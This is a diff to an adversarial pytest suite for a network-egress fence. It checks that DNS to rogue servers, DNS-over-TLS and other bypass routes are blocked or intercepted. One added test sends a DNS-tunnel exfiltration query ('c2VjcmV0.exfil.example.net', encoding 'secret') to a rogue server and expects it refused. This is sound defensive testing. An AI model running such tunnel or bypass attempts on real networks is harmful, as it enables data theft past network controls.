@@ -17,6 +17,7 @@ from tests.adversarial.common import (
     DENIED_V4,
     DENIED_V6,
     KINDS,
+    OUTBOUND,
     UDP_V4,
     Subject,
     attack,
@@ -103,42 +104,52 @@ def test_other_family_and_v4_mapped_addresses(bed: Bed, kind: str) -> None:
 
 
 @pytest.mark.parametrize("kind", KINDS)
-def test_dns_to_other_servers_ports_and_dot(bed: Bed, kind: str) -> None:
-    """DNS elsewhere than the resolvers' port 53 (udp, tcp, DoT 853, other ports) fails."""
+@pytest.mark.parametrize("dns", ["gateway", "direct"])
+def test_dns_to_other_servers_ports_and_dot(bed: Bed, kind: str, dns: str) -> None:
+    """DNS never reaches another server (gateway: intercepted; direct: refused); DoT fails."""
     bed.dns.set("www.example.com", "A", [ALLOWED_V4], ttl=60)
     subj = subject(bed, kind)
-    start_fenced(bed, subj)
+    start_fenced(bed, subj, dns=dns, outbound=[*OUTBOUND, "www.example.com:80/tcp"])
     dot = bed.listen("tcp", 853, ns="server")  # a DoT port on every server address
     assert dot.first is not None
     assert attack(bed, None, "connect", "tcp", C.RESOLVER_V4, 853).outcome == "connected"
     who = subj.probe_who
-    expect(
-        "DNS to the configured resolver, udp 53 (control)",
-        kind,
-        "answer",
-        bed.resolve("www.example.com", **who).outcome,
-    )
-    expect(
-        "DNS to the configured resolver, tcp 53 (control)",
-        kind,
-        "answer",
-        bed.resolve("www.example.com", tcp=True, **who).outcome,
-    )
+    for tcp in (False, True):
+        r = bed.resolve("www.example.com", tcp=tcp, **who)
+        expect(
+            f"DNS to the configured resolver, {'tcp' if tcp else 'udp'} 53 (control, {dns})",
+            kind,
+            "answer",
+            r,
+        )
     for what, server, tcp in (
-        ("DNS to another server, udp 53", C.ROGUE_V4, False),
-        ("DNS to another server, tcp 53", C.ROGUE_V4, True),
-        ("DNS to another server over IPv6, udp 53", C.ROGUE_V6, False),
-        ("DNS to the resolver's IPv6 address (not configured), udp 53", C.RESOLVER_V6, False),
+        ("another server, udp 53", C.ROGUE_V4, False),
+        ("another server, tcp 53", C.ROGUE_V4, True),
+        ("another server over IPv6, udp 53", C.ROGUE_V6, False),
+        ("the resolver's IPv6 address (not configured), udp 53", C.RESOLVER_V6, False),
     ):
         r = bed.resolve("www.example.com", server=server, tcp=tcp, **who)
-        expect_blocked(what, kind, r)
+        attempt = f"DNS to {what} (dns = {dns})"
+        if dns == "direct":
+            expect_blocked(attempt, kind, r)
+        else:  # intercepted: fenced's gateway answers, never the other server
+            got = f"{r.outcome}: {','.join(r.get('addresses') or []) or r.get('rcode')}"
+            record(attempt, kind, f"answered by fenced ({ALLOWED_V4}), not the server", got)
+            assert r.outcome == "answer" and r["addresses"] == [ALLOWED_V4], r.data
+    if dns == "gateway":  # a tunnel needs names the policy does not list: refused
+        r = bed.resolve("c2VjcmV0.exfil.example.net", server=C.ROGUE_V4, **who)
+        expect(
+            "DNS tunnel: unlisted name asked of another server (dns = gateway)", kind, "answer", r
+        )
+        assert r["rcode"] == "NXDOMAIN" and not r["addresses"], r.data
+        assert all("exfil" not in q.name for q in bed.dns.queries())
     for what, args in (
         ("DNS-over-TLS (tcp 853) to the resolver", ("tcp", C.RESOLVER_V4, 853)),
         ("DNS-over-TLS (tcp 853) to another server", ("tcp", C.ROGUE_V4, 853)),
         ("the resolver's address on another port (tcp 80)", ("tcp", C.RESOLVER_V4, 80)),
         ("the resolver's address on another port (udp 123)", ("udp", C.RESOLVER_V4, 123)),
     ):
-        expect_blocked(what, kind, attack(bed, subj, "connect", *args))
+        expect_blocked(f"{what} (dns = {dns})", kind, attack(bed, subj, "connect", *args))
     assert bed.rogue.queries() == []
 
 
